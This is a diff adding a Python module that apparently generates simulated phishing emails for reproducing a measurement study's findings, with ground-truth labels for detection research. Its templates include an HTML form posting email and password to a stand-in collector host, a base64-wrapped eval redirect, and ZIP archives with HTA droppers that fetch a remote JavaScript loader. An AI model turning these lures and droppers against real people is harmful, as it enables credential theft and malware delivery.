@@ -1,0 +1,178 @@
+"""HTML-attachment and ZIP/HTA kits (Sections V-B and V).
+
+Two non-targeted patterns:
+
+- **HTML attachments** (29 messages): the victim opens the file locally;
+  19 of them keep the window URL unchanged and pull page furniture from
+  legitimate image CDNs inside frames, the rest use JavaScript to
+  redirect to an external landing site.
+- **ZIP archives with HTA droppers** (5 messages): the HTA fetches a
+  JavaScript payload from a VirusTotal-flagged domain; CrawlerBox
+  records but never runs it.
+"""
+
+from __future__ import annotations
+
+import random
+
+from repro.js.obfuscate import base64_eval_wrap
+from repro.mail.attachments import ArchiveFile, HtaFile
+from repro.mail.message import ContentType, EmailMessage, MessagePart
+
+#: Legitimate multimedia hosts the local-loading attachments lean on.
+LEGIT_MEDIA_HOSTS = ("gyazo-cdn.example", "freeimages-cdn.example")
+
+
+def _local_frame_html(brand_title: str, rng: random.Random) -> str:
+    """An attachment that renders in place, without changing the URL."""
+    host = LEGIT_MEDIA_HOSTS[rng.randrange(len(LEGIT_MEDIA_HOSTS))]
+    background = f"https://{host}/bg/{rng.randrange(1000, 9999)}.png"
+    return f"""<html>
+<head><title>{brand_title}</title></head>
+<body>
+<img src="{background}"/>
+<div id="frame-root">
+<form action="https://collector-{rng.randrange(100, 999)}.example/submit" method="POST">
+<input type="text" name="email"/>
+<input type="password" name="password"/>
+</form>
+</div>
+</body></html>"""
+
+
+def _redirect_html(landing_url: str) -> str:
+    """An attachment whose script rewrites the URL and reloads."""
+    dropper = base64_eval_wrap(f"location.href = '{landing_url}';")
+    return f"""<html>
+<head><title>Document preview</title><script>{dropper}</script></head>
+<body><p>Loading secure document...</p></body></html>"""
+
+
+def build_html_attachment_message(
+    recipient: str,
+    delivered_at: float,
+    rng: random.Random,
+    local_loading: bool,
+    landing_url: str = "",
+    sending_domain: str = "sharepoint-notify.example",
+    sending_ip: str = "198.51.100.21",
+) -> EmailMessage:
+    """A message carrying an HTML file the victim must open locally."""
+    if local_loading:
+        markup = _local_frame_html("Payment remittance", rng)
+        category = "html-attachment-local"
+    else:
+        if not landing_url:
+            raise ValueError("redirecting HTML attachments need a landing_url")
+        markup = _redirect_html(landing_url)
+        category = "html-attachment-redirect"
+    message = EmailMessage(
+        sender=f"documents@{sending_domain}",
+        recipient=recipient,
+        subject="Remittance advice attached",
+        delivered_at=delivered_at,
+        sending_domain=sending_domain,
+        sending_ip=sending_ip,
+        ground_truth={"category": category},
+    )
+    message.add_part(MessagePart.text("Please find the remittance advice attached."))
+    message.add_part(
+        MessagePart(
+            ContentType.HTML,
+            markup,
+            filename=f"remittance_{rng.randrange(1000, 9999)}.html",
+            inline=False,
+        )
+    )
+    return message
+
+
+def deploy_download_site(
+    network,
+    domain: str,
+    ip: str,
+    malicious_js_domain: str,
+    cert_issued_at: float,
+    rng: random.Random,
+):
+    """Host a site whose landing URL downloads a ZIP with an HTA dropper."""
+    from repro.web.context import ClientContext
+    from repro.web.http import HttpRequest, HttpResponse
+    from repro.web.network import Network
+    from repro.web.site import Website
+    from repro.web.tls import TLSCertificate
+
+    assert isinstance(network, Network)
+    site = Website(domain, ip=ip)
+    hta = HtaFile(
+        name="invoice_viewer.hta",
+        remote_script_url=f"https://{malicious_js_domain}/loader/{rng.randrange(10**6):06d}.js",
+    )
+    archive = ArchiveFile().add(hta.name, hta)
+
+    def _download(request: HttpRequest, context: ClientContext) -> HttpResponse:
+        response = HttpResponse(status=200, body="PK\x03\x04...", content_type="application/zip")
+        response.headers.set("Content-Disposition", 'attachment; filename="invoices.zip"')
+        response.archive = archive  # type: ignore[attr-defined]
+        return response
+
+    site.set_default(_download)
+    network.host_website(site)
+    network.issue_certificate(
+        TLSCertificate(domain, "LetsEncrypt", cert_issued_at, cert_issued_at + 24 * 365)
+    )
+    return site
+
+
+def build_download_lure(
+    recipient: str,
+    delivered_at: float,
+    landing_url: str,
+    rng: random.Random,
+    sending_domain: str = "invoice-delivery.example",
+    sending_ip: str = "198.51.100.22",
+) -> EmailMessage:
+    """A message whose URL triggers the ZIP download."""
+    message = EmailMessage(
+        sender=f"invoices@{sending_domain}",
+        recipient=recipient,
+        subject="Your invoice package is ready",
+        delivered_at=delivered_at,
+        sending_domain=sending_domain,
+        sending_ip=sending_ip,
+        ground_truth={"category": "download", "landing_url": landing_url},
+    )
+    message.add_part(
+        MessagePart.text(f"Your invoice package is ready for download:\n\n{landing_url}\n")
+    )
+    return message
+
+
+def build_zip_hta_message(
+    recipient: str,
+    delivered_at: float,
+    rng: random.Random,
+    malicious_js_domain: str,
+    sending_domain: str = "invoice-delivery.example",
+    sending_ip: str = "198.51.100.22",
+) -> EmailMessage:
+    """A message with a ZIP archive containing an HTA dropper."""
+    hta = HtaFile(
+        name="invoice_viewer.hta",
+        remote_script_url=f"https://{malicious_js_domain}/loader/{rng.randrange(10**6):06d}.js",
+    )
+    archive = ArchiveFile().add(hta.name, hta).add(
+        "README.txt", "Open invoice_viewer to display your document."
+    )
+    message = EmailMessage(
+        sender=f"invoices@{sending_domain}",
+        recipient=recipient,
+        subject="Invoice package",
+        delivered_at=delivered_at,
+        sending_domain=sending_domain,
+        sending_ip=sending_ip,
+        ground_truth={"category": "download", "vt_detections": rng.randrange(17, 40)},
+    )
+    message.add_part(MessagePart.text("Your invoice package is attached as a ZIP archive."))
+    message.add_part(MessagePart(ContentType.ZIP, archive, filename="invoices.zip", inline=False))
+    return message
